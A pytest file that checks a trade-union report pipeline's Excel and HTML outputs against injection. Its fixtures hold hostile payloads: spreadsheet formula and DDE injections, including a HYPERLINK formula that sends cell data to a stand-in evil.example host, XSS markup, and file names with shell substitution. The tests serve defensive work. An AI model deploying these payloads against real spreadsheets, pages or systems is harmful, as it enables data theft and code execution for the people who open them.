"""Safe outputs, end to end: hostile report text and hostile file and folder names go
through the pipeline and the aggregate stage; every Excel cell is inert data and
every HTML page is escaped, loads nothing from the network and runs no script."""
from __future__ import annotations

import re
from pathlib import Path

import pytest
from lxml import html as lxml_html
from openpyxl import load_workbook

from pipeline.aggregate import build_outputs
from pipeline.aggregate.excel import FORMULA_TRIGGERS
from pipeline.run import run_corpus

# Each is meant to run somewhere: as a spreadsheet formula, as markup, as a script.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
MARKUP = ["<script>alert('x')</script>", "<img src=x onerror=alert(1)>",
          '" onmouseover="alert(1)', "'><svg onload=alert(1)>", "</pre><script>alert(2)</script>",
          '<iframe src="http://evil.example/"></iframe>', '<a href="javascript:alert(3)">点</a>',
          '<link rel=stylesheet href="http://evil.example/x.css">']

HOSTILE_REPORT = "\n".join([
    "=1+1 <script>alert('t')</script>街道总工会2023年工作总结",
    "",
    "一、加强组织建设",
    *(f"{x}全年新建工会组织1{i}个，新发展会员14{i}8人。" for i, x in enumerate(FORMULAS + MARKUP)),
    "二、维护职工权益",
    "\t=SUM(A1:A9)走访慰问困难职工56户，发放慰问金5.3万元，帮扶xxxx户。",
    "三、荣誉",
    "街道总工会被评为2023年度区级“<b>模范职工之家</b>”。",
    # an award name lands in a title="..." attribute (tooltip) of the review page
    'XX"onmouseover=alert(1) x="工会被评为2023年度区级“模范职工之家”。',  # recipient with quotes
]) + "\n"

# Folder convention DISTRICT/BRANCH/file: names end up in district and branch columns
# (no "/" in a name: it would be a folder).
LAYOUT = [("<img src=x onerror=alert(9)>", '=HYPERLINK("evil.example","x")', "=cmd|' calc'!A0.txt"),
          ("@SUM(1)", "+cmd|' calc'!A0", "<script>alert(1)<%2fscript>.txt"),
          ("-1区", "\"><svg onload=alert(1)>", "普通 报告 $(id).txt")]

ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "main", "section",
                "h1", "h2", "h3", "p", "div", "span", "table", "thead", "tbody", "tr", "th", "td",
                "a", "ul", "li", "pre", "mark", "svg", "rect", "text", "g", "line", "title",
                "nav", "footer", "details", "summary", "small", "b", "strong", "em", "br", "code"}
NETWORK = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*:|//|\\\\)", re.I)   # any scheme or //host


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("safe")
    root = tmp / "in"
    for i, (district, branch, name) in enumerate(LAYOUT):
        d = root / district / branch
        d.mkdir(parents=True)
        (d / name).write_text(HOSTILE_REPORT + f"附{i}。\n", encoding="utf-8")
    out = tmp / "out"
    m = run_corpus([root], out, workers=0, use_cache=False)
    assert m.counts["processed"] == len(LAYOUT) and m.counts["facts"] > 0
    build_outputs(out, [root], review_pages=True)
    return out


def test_every_excel_cell_is_inert_data(run_dir):
    wb = load_workbook(run_dir / "ghminer.xlsx")
    neutralised = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                v = cell.value
                if isinstance(v, str):
                    assert not v.startswith(FORMULA_TRIGGERS), (ws.title, cell.coordinate, v)
                    if v.startswith("'") and v[1:].startswith(FORMULA_TRIGGERS):
                        neutralised.append(v[1:])
    # The hostile values did reach the workbook (as text): names, folders, report text.
    for expected in ("=cmd|' calc'!A0.txt", '=HYPERLINK("evil.example","x")',
                     "+cmd|' calc'!A0", "@SUM(1)", "-1区"):
        assert expected in neutralised, expected
    assert any(v.startswith("=1+1 <script>") for v in neutralised)  # a report title


def pages(run_dir: Path) -> list[Path]:
    found = sorted(run_dir.rglob("*.html"))
    assert (run_dir / "dashboard.html") in found and len(found) > len(LAYOUT)
    return found


def test_html_pages_load_nothing_and_run_nothing(run_dir):
    for page in pages(run_dir):
        raw = page.read_text(encoding="utf-8")
        doc = lxml_html.document_fromstring(raw)
        csp = doc.xpath('//meta[@http-equiv="Content-Security-Policy"]/@content')
        assert csp and "default-src 'none'" in csp[0] and "script-src" not in csp[0], page
        for el in doc.iter():
            if not isinstance(el.tag, str):
                continue
            tag = el.tag.rsplit("}", 1)[-1].lower()
            assert tag in ALLOWED_TAGS, (page.name, tag)
            for attr, value in el.attrib.items():
                name = attr.rsplit("}", 1)[-1].lower()
                assert not name.startswith("on"), (page.name, tag, attr, value)
                if name in ("href", "src", "action", "formaction", "poster", "srcset", "data"):
                    assert not NETWORK.match(value), (page.name, tag, attr, value)
                assert "url(" not in value.lower() or name != "style", (page.name, value)
        for style in doc.iter("style"):
            assert "@import" not in style.text and not re.search(r"url\(\s*['\"]?(?!data:)", style.text)


def test_hostile_text_is_shown_escaped_as_text(run_dir):
    """The markup is there for the reader to see (escaped), as the report wrote it."""
    review = [p for p in pages(run_dir) if p.parent.name == "review"]
    shown = "\n".join(lxml_html.document_fromstring(p.read_text("utf-8")).text_content()
                      for p in review)
    for m in MARKUP + FORMULAS:
        assert m in shown, m
    dash = lxml_html.document_fromstring((run_dir / "dashboard.html").read_text("utf-8"))
    assert "<img src=x onerror=alert(9)>" in dash.text_content()  # a district name
    assert not dash.xpath("//img|//script|//iframe")


def test_report_text_inside_attributes_stays_inside_them(run_dir):
    """Award names and recipients with markup and quotes end up in tooltips (title
    attributes) intact: escaped, they neither close the attribute nor add one."""
    titles = []
    for p in pages(run_dir):
        titles += lxml_html.document_fromstring(p.read_text("utf-8")).xpath("//mark/@title")
    assert any("<b>模范职工之家</b>" in t for t in titles)
    assert any('XX"onmouseover=alert(1) x="工会' in t for t in titles)


def test_output_files_are_named_from_sanitised_names(run_dir):
    """No output path comes from report text or raw file names: review pages have
    [A-Za-z0-9_-] names inside review/, and nothing is written elsewhere."""
    names = [p.relative_to(run_dir).as_posix() for p in run_dir.rglob("*") if p.is_file()
             and ".cache" not in p.parts]
    for n in names:  # the last alternative: fixed hidden bookkeeping files (.ghminer.lock, ...)
        assert re.fullmatch(r"(review/[A-Za-z0-9_-]+_\d+_[0-9a-f]{8}\.html|tables/[a-z_]+\.parquet|"
                            r"[a-z_]+\.(?:jsonl|json|xlsx|duckdb|html)|\.[a-z-]+(?:\.[a-z]+)+)", n), n
    assert not list(run_dir.parent.rglob("PWNED"))
